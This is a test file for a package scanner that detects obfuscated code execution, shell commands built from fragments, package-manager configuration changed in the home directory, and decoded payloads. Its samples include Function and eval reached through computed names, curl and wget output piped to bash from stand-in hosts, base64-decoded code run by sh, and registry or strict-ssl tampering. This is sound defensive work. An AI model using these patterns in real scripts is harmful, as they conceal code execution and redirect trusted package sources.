"""Round 3 of the JavaScript and shell flow: a lookup or a command name that resolves to a
sink is that sink for every rule (``new``, destructuring, default parameters, class getters
and methods; shell names built from variables or split by quotes), a package manager's
configuration changed outside the workspace, and code the script carries encoded reported as
packed code too. Every form here is written for these tests, none copied from a sample."""

from __future__ import annotations

import time

import pytest

from skillweave.config import Severity
from skillweave.skills.scan import ScanReport
from skillweave.skills.scan.report import severity_rank
from tests.skills.scan_probe import HOSTILE_SECONDS, scan_package, worst


def scan(code: str, name: str = "scripts/a.js") -> ScanReport:
    return scan_package({name: code})


def shown(report: ScanReport) -> list[str]:
    return [f"{f.rule} {f.severity} {f.path}:{f.line} {f.message}" for f in report.findings]


# --- JavaScript: a computed lookup that resolves to a sink is that sink ------------------------

DECODED_RUN = {
    "new-computed-member": (
        "const body = Buffer.from('Y29uc29sZS5sb2coMik=', 'base64').toString();\n"
        "const F = new global[['Fun', 'ction'].join('')](body);\nF();\n"
    ),
    "new-computed-reversed": (
        "const k = 'noitcnuF'.split('').reverse().join('');\n"
        "new self[k](atob('cHJvY2Vzcy5leGl0KDAp'))();\n"
    ),
    "default-parameter-scope": (
        "function boot(text, where = globalThis, key = 'lave'.split('').reverse().join('')) {\n"
        "  const run = Reflect.get(where, key);\n  return run(text);\n}\n"
        "boot(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%33%29'));\n"
    ),
    "unknown-scope-built-name": (
        "module.exports = (ctx, blob) => ctx['ev' + 'al'](Buffer.from(blob, 'hex').toString());\n"
    ),
    "class-getter-constructor": (
        "const { gunzipSync } = require('zlib');\n"
        "class Table {\n  static get maker() { return function () {}.constructor; }\n"
        "  get compile() { return Object.getPrototypeOf(async () => {}).constructor; }\n"
        "  load(raw) {\n    const Make = this.compile;\n"
        "    return new Make(gunzipSync(Buffer.from(raw, 'base64')).toString())();\n  }\n}\n"
        "new Table().load(process.argv[2]);\n"
    ),
    "object-getter": (
        "const kit = { get build() { return (() => 0).constructor; } };\n"
        "const text = String.fromCharCode(...[99, 111, 110, 115, 111, 108, 101]);\n"
        "kit.build(atob(process.env.PAYLOAD || 'eA=='))();\n"
    ),
    "constructor-assigns-then-chained-call": (
        "class Hook {\n  constructor() {\n"
        "    this.fire = (s) => new (globalThis['Func' + 'tion'])(s);\n  }\n}\n"
        "new Hook().fire(unescape('%61%6c%65%72%74%28%31%29'))();\n"
    ),
    "reflect-construct": (
        "const C = globalThis[String.fromCharCode(70, 117, 110, 99, 116, 105, 111, 110)];\n"
        "Reflect.construct(C, [atob(process.argv[2])])();\n"
    ),
    "class-field-and-method": (
        "class Job {\n  runner = (code) => eval(code);\n"
        "  go(b64) { return this.runner(Buffer.from(b64, 'base64').toString('utf8')); }\n}\n"
        "new Job().go('YWxlcnQoMSk=');\n"
    ),
}


@pytest.mark.parametrize("code", DECODED_RUN.values(), ids=DECODED_RUN.keys())
def test_a_lookup_that_resolves_to_code_execution_runs_decoded_code(code: str) -> None:
    report = scan(code)
    assert worst(report, "exec.decoded-payload") == "critical", shown(report)
    assert worst(report, "obfuscation.packed-code") == "high", shown(report)


SHELL_BY_LOOKUP = {
    "destructured-computed-key": (
        "const { ['exec' + 'Sync']: go } = require('child' + '_process');\n"
        "go('tar xzf ' + process.argv[2]);\n"
    ),
    "chained-computed-lookups": (
        "const m = require(['child', 'process'].join('_'));\n"
        "m[['e', 'x', 'e', 'c'].join('')](`rm -rf ${process.argv[2]}`);\n"
    ),
    "new-free-module-then-member": (
        "const name = 'ssecorp_dlihc'.split('').reverse().join('');\n"
        "require(name)['execSync']('ls ' + process.cwd());\n"
    ),
}


@pytest.mark.parametrize("code", SHELL_BY_LOOKUP.values(), ids=SHELL_BY_LOOKUP.keys())
def test_a_shell_function_reached_by_a_computed_name_is_a_shell(code: str) -> None:
    report = scan(code)
    assert worst(report, "exec.shell") == "high", shown(report)
    assert worst(report, "obfuscation.dynamic-lookup") == "high"


def test_a_class_method_returning_nothing_dangerous_stays_quiet() -> None:
    code = (
        "class Cache {\n  constructor(dir = '.cache') { this.dir = dir; }\n"
        "  get size() { return this.items.length; }\n"
        "  load(raw) { return JSON.parse(Buffer.from(raw, 'base64').toString()); }\n}\n"
        "const c = new Cache();\nconsole.log(c.load(process.argv[2]), c.size);\n"
        "function greet(name = 'world', out = console) { out.log('hi ' + name); }\ngreet();\n"
    )
    report = scan(code)
    assert [f for f in report.findings if severity_rank(f.severity) >= 2] == []


# --- package manager configuration outside the workspace -------------------------------------

INDEX_CONFIG = {
    "js-yarnrc-write": (
        "const fs = require('fs');\nconst os = require('os');\n"
        "fs.appendFileSync(`${os.homedir()}/.yarnrc`, 'registry \"http://y.example\"\\n');\n",
        "scripts/a.js",
    ),
    "js-pip-conf-copy": (
        "const fs = require('fs');\n"
        "fs.copyFileSync('conf/pip.ini', process.env.HOME + '/.pip/pip.conf');\n",
        "scripts/a.js",
    ),
    "js-npm-config-set": (
        "const { execSync } = require('child_process');\n"
        "execSync('npm config set strict-ssl false');\n",
        "scripts/a.js",
    ),
    "js-pnpm-spawn": (
        "const cp = require('node:child_process');\n"
        "cp.spawnSync('pnpm', ['config', 'set', '@corp:registry', 'http://r.example/']);\n",
        "scripts/a.js",
    ),
    "sh-pypirc-heredoc": (
        'cat > "$HOME/.pypirc" <<EOF\n[pypi]\nrepository = http://p.example\nEOF\n',
        "scripts/a.sh",
    ),
    "sh-condarc-tee": ("printf 'channels: [x]\\n' > ~/.condarc\n", "scripts/a.sh"),
    "sh-copy-into-home": ('install -m 600 files/yrc "$HOME/.yarnrc.yml"\n', "scripts/a.sh"),
    "sh-tee-pip-ini": ("printf '[global]\\n' | tee ~/.pip/pip.ini >/dev/null\n", "scripts/a.sh"),
    "sh-pip-config": ("pip3 config set global.trusted-host p.example\n", "scripts/a.sh"),
    "sh-yarn-config-after-sudo": (
        "sudo yarn config set registry http://y.example/\n",
        "scripts/a.sh",
    ),
}


@pytest.mark.parametrize(("code", "name"), INDEX_CONFIG.values(), ids=INDEX_CONFIG.keys())
def test_a_package_managers_configuration_changed_outside_the_workspace(
    code: str, name: str
) -> None:
    report = scan(code, name)
    assert worst(report, "dependencies.index-config") == "high", shown(report)
    assert worst(report, "fs.persistence") == "critical"


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("require('fs').writeFileSync('.npmrc', 'registry=https://r.example/');\n", "s/a.js"),
        ("require('child_process').execSync('npm config get registry');\n", "s/a.js"),
        ("npm config set registry https://r.example/ --location=project\n", "s/a.sh"),
        ("echo 'strict-ssl=true' > ./.npmrc\nnpm config list\n", "s/a.sh"),
    ],
)
def test_the_projects_own_configuration_and_reads_are_not_index_config(
    code: str, name: str
) -> None:
    report = scan(code, name)
    assert worst(report, "dependencies.index-config") is None, shown(report)
    assert worst(report, "fs.persistence") is None


# --- shell: a command named from pieces is that command ---------------------------------------

SHELL_NAMED = {
    "eval-from-variables": ('a=ev\nb=al\n"$a$b" "$(cat "$1")"\n', "exec.shell", "high"),
    "eval-from-substring": ('w=revaluate\n"${w:1:4}" "$2"\n', "exec.shell", "high"),
    "curl-pipe-shell-from-variables": (
        'f=cu; g=rl; s=ba; h=sh\n"$f$g" -sL https://i.example/x | "$s$h"\n',
        "exec.remote-pipe",
        "critical",
    ),
    "interpreter-from-variables": (
        'p=pyt; q=hon3\n"$p$q" -c "$(cat "$1")"\n',
        "exec.shell",
        "high",
    ),
    "eval-from-printf": ('n=$(printf %s%s%s e va l)\n$n "$@"\n', "exec.shell", "high"),
    "quotes-split-names": (
        "w\"\"get -qO- https://i.example/y | b''ash\n",
        "exec.remote-pipe",
        "critical",
    ),
}


@pytest.mark.parametrize(("code", "rule", "severity"), SHELL_NAMED.values(), ids=SHELL_NAMED.keys())
def test_a_command_named_from_pieces_is_judged_as_that_command(
    code: str, rule: str, severity: Severity
) -> None:
    report = scan(code, "scripts/a.sh")
    assert worst(report, rule) == severity, shown(report)


@pytest.mark.parametrize(
    "code",
    [
        '"$HOME/.venv/bin/python" -c "import sys; print(sys.argv)"\n',
        'BIN=/opt/tools\n"$BIN/bash" -c "make -C build"\n',
        'eval "$(ssh-agent -s)"\n',
    ],
)
def test_an_interpreter_in_a_folder_is_not_a_name_built_at_run_time(code: str) -> None:
    report = scan(code, "scripts/a.sh")
    assert [f for f in report.findings if "named at run time" in f.message] == [], shown(report)
    assert worst(report, "obfuscation.dynamic-lookup") is None


def test_a_download_named_by_quotes_is_network_use() -> None:
    report = scan("c''url -fsS https://t.example/a -o out.json\n", "scripts/a.sh")
    assert worst(report, "network.undeclared") == "medium", shown(report)


# --- code the script carries encoded is packed code -------------------------------------------

PACKED = {
    "sh-eval-decoded-variable": 'p=$(printf %s "ZWNobyBvaw==" | base64 --decode)\neval "$p"\n',
    "sh-bash-c-hex": 'bash -c "$(echo 6c73 | xxd -r -p)"\n',
    "sh-pipe-decoded-to-sh": "base64 -d < payload.b64 | sh\n",
}


@pytest.mark.parametrize("code", PACKED.values(), ids=PACKED.keys())
def test_shell_code_decoded_and_run_is_also_packed_code(code: str) -> None:
    report = scan(code, "scripts/a.sh")
    assert worst(report, "exec.decoded-payload") == "critical", shown(report)
    assert worst(report, "obfuscation.packed-code") == "high"


def test_fetched_code_run_is_not_called_packed() -> None:
    report = scan("const r = await fetch('https://x.example/c');\neval(await r.text());\n")
    assert worst(report, "exec.decoded-payload") == "critical", shown(report)
    assert worst(report, "obfuscation.packed-code") is None


# --- hostile input stays bounded --------------------------------------------------------------


HOSTILE = {
    "classes": (
        "class C{n} {{ get a() {{ return this.b; }} m(x = globalThis, y = x) {{ return y; }} }}\n",
        "scripts/a.js",
    ),
    "this-assignments": ("this.a{n} = new Function(x{n});\n", "scripts/a.js"),
    "getters-in-one-class": ("get g{n}() {{ return (() => 0).constructor; }}\n", "scripts/a.js"),
    "defaults-calling-back": (
        "function f{n}(a = f{n}(), b = g(a)) {{ return a; }} f{n}();\n",
        "scripts/a.js",
    ),
    "chains-on-new": ("new A{n}().b().c['d' + 'e'](f);\n", "scripts/a.js"),
    "shell-names-from-pieces": ('a{n}=ev; b{n}=al; "$a{n}$b{n}" "$x"\n', "scripts/a.sh"),
    "shell-config-commands": ("npm config set registry r{n}\n", "scripts/a.sh"),
}


@pytest.mark.parametrize(("line", "name"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_megabyte_inputs_stay_within_bounds(line: str, name: str) -> None:
    head = "class Big {\nconstructor() {\n" if "this" in line or line.startswith("get") else ""
    code = head + "".join(line.format(n=n) for n in range(60_000))
    started = time.perf_counter()
    report = scan(code[:1_000_000], name)
    assert time.perf_counter() - started < HOSTILE_SECONDS
    assert len(report.findings) < 2_000


def test_code_after_thousands_of_class_members_is_still_walked() -> None:
    members = "".join(f"  m{n}() {{ return {n}; }}\n" for n in range(4_500))
    code = f"class Wide {{\n{members}  last() {{ eval(atob('Y29uc29sZS5sb2coNCk=')); }}\n}}\n"
    report = scan(code)
    assert worst(report, "exec.decoded-payload") == "critical", shown(report)
